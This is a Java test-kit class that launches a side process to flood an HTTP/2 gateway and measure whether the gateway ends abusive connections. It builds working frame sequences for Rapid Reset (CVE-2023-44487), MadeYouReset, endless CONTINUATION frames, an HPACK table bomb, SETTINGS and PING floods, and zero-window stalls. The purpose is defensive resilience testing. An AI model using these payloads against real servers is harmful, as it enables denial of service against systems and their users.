package sallyport.testkit;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Arrays;
import java.util.List;
import java.util.regex.Matcher;
import java.util.stream.Collectors;
import javax.net.ssl.SSLContext;

/**
 * Visitors who flood a gateway over HTTP/2, one connection after another, each until the gateway has enough of it. They run
 * as a process beside the test, at the lowest priority: attackers bring machines of their own.
 */
public final class Flood implements AutoCloseable {
    private static final Duration SOON = Duration.ofSeconds(30);
    private static final Duration PATIENCE = Duration.ofSeconds(10);
    private static final int FRAMES_AT_ONCE = 100;
    private static final int INITIAL_WINDOW_SIZE = 4;

    /** What they send without end. */
    public enum Kind {
        /** Requests that are taken back at once (CVE-2023-44487). */
        RAPID_RESET,
        /** Requests that the gateway is made to take back (CVE-2025-8671). */
        MADE_YOU_RESET,
        /** Empty pieces of a field block that never ends (CVE-2026-33871). */
        CONTINUATIONS,
        /** References of one byte to a large entry of the table. */
        TABLE_BOMB,
        SETTINGS,
        PINGS,
        /** A hundred large answers whose bytes are never taken. */
        ZERO_WINDOW
    }

    private final Program program;

    private Flood(Program program) {
        this.program = program;
    }

    /**
     * What became of them.
     *
     * @param connections that were opened
     * @param open of those, how many the gateway did not end within {@link #PATIENCE}
     * @param slowest milliseconds from a connection's first frame to its end
     */
    public record Outcome(int connections, int open, long slowest) {}

    /** Starts, each kind for so long, one behind the other; returns when the first of them is on its way. */
    public static Flood start(List<Kind> kinds, int port, String hostname, Path trust, Duration howLong) {
        Program program = Program.startAside(
                Flood.class,
                "128m",
                List.of(
                        kinds.stream().map(Kind::name).collect(Collectors.joining(",")),
                        Integer.toString(port),
                        hostname,
                        trust.toString(),
                        Long.toString(howLong.toMillis())));
        program.awaitLine("^flooding$", SOON);
        return new Flood(program);
    }

    public boolean flooding() {
        return program.alive() && !program.said("^connections ");
    }

    /** Waits for the end and tells what became of them. */
    public Outcome outcome() {
        Matcher said = program.awaitLine("^connections (\\d+) open (\\d+) slowest (\\d+)$", SOON);
        return new Outcome(
                Integer.parseInt(said.group(1)), Integer.parseInt(said.group(2)), Long.parseLong(said.group(3)));
    }

    @Override
    public void close() {
        program.close();
    }

    /** The process: kinds, port, hostname, roots, milliseconds for each kind. */
    public static void main(String[] words) throws IOException {
        Flooder flooder = new Flooder(Integer.parseInt(words[1]), words[2], Visitor.trusting(Path.of(words[3])));
        for (String kind : words[0].split(",", -1)) {
            flooder.flood(Kind.valueOf(kind), Long.parseLong(words[4]) * 1_000_000L);
        }
        System.out.println("connections " + flooder.connections + " open " + flooder.open + " slowest "
                + flooder.slowest / 1_000_000);
    }

    private static final class Flooder {
        private final int port;
        private final String hostname;
        private final SSLContext trust;
        private int connections;
        private int open;
        private long slowest;

        Flooder(int port, String hostname, SSLContext trust) {
            this.port = port;
            this.hostname = hostname;
            this.trust = trust;
        }

        void flood(Kind kind, long nanos) throws IOException {
            long end = System.nanoTime() + nanos;
            int[] settings = kind == Kind.ZERO_WINDOW ? new int[] {INITIAL_WINDOW_SIZE, 0} : new int[0];
            do {
                try (Http2Visitor visitor = Http2Visitor.connect(port, hostname, trust, settings)) {
                    if (connections++ == 0) {
                        System.out.println("flooding");
                    }
                    long start = System.nanoTime();
                    Thread writer = Thread.ofVirtual().start(() -> write(visitor, kind, hostname));
                    open += visitor.ends(PATIENCE) ? 0 : 1;
                    slowest = Math.max(slowest, System.nanoTime() - start);
                    writer.interrupt();
                }
            } while (System.nanoTime() < end);
        }
    }

    private static void write(Http2Visitor visitor, Kind kind, String hostname) {
        try {
            visitor.bytes(first(kind, hostname));
            for (int stream = 3; kind != Kind.ZERO_WINDOW; stream += 2 * FRAMES_AT_ONCE) {
                ByteArrayOutputStream frames = new ByteArrayOutputStream();
                for (int i = 0; i < FRAMES_AT_ONCE; i++) {
                    frames.writeBytes(frame(kind, hostname, stream + 2 * i));
                }
                visitor.bytes(frames.toByteArray());
            }
        } catch (IOException e) {
            return; // the gateway has had enough
        }
    }

    private static byte[] first(Kind kind, String hostname) {
        List<String> get = Http2Visitor.get(hostname, "/large");
        byte[] block = Http2Visitor.block(get);
        return switch (kind) {
            case CONTINUATIONS -> Http2Visitor.frame(Http2Visitor.HEADERS, Http2Visitor.END_STREAM, 1, block);
            case TABLE_BOMB -> {
                byte[] entry = Http2Visitor.block(List.of("a", "b".repeat(3900)));
                entry[0] = 0x40; // with incremental indexing
                yield whole(1, join(block, entry));
            }
            case ZERO_WINDOW -> {
                ByteArrayOutputStream all = new ByteArrayOutputStream();
                for (int stream = 1; stream < 200; stream += 2) {
                    all.writeBytes(whole(stream, block));
                }
                yield all.toByteArray();
            }
            default -> new byte[0];
        };
    }

    private static byte[] frame(Kind kind, String hostname, int stream) {
        byte[] get = whole(stream, Http2Visitor.block(Http2Visitor.get(hostname, "/")));
        return switch (kind) {
            case RAPID_RESET ->
                join(get, Http2Visitor.frame(Http2Visitor.RST_STREAM, 0, stream, Http2Visitor.number(8)));
            case MADE_YOU_RESET ->
                join(get, Http2Visitor.frame(Http2Visitor.WINDOW_UPDATE, 0, stream, Http2Visitor.number(0)));
            case CONTINUATIONS -> Http2Visitor.frame(Http2Visitor.CONTINUATION, 0, 1);
            case TABLE_BOMB -> {
                byte[] bomb = new byte[16_000];
                Arrays.fill(bomb, (byte) (0x80 | 62)); // the table's newest entry
                yield whole(stream, join(Http2Visitor.block(Http2Visitor.get(hostname, "/")), bomb));
            }
            case SETTINGS -> Http2Visitor.frame(Http2Visitor.SETTINGS, 0, 0);
            case PINGS -> Http2Visitor.frame(Http2Visitor.PING, 0, 0, new byte[8]);
            case ZERO_WINDOW -> new byte[0];
        };
    }

    private static byte[] whole(int stream, byte[] block) {
        return Http2Visitor.frame(
                Http2Visitor.HEADERS, Http2Visitor.END_HEADERS | Http2Visitor.END_STREAM, stream, block);
    }

    private static byte[] join(byte[] one, byte[] other) {
        byte[] both = Arrays.copyOf(one, one.length + other.length);
        System.arraycopy(other, 0, both, one.length, other.length);
        return both;
    }
}
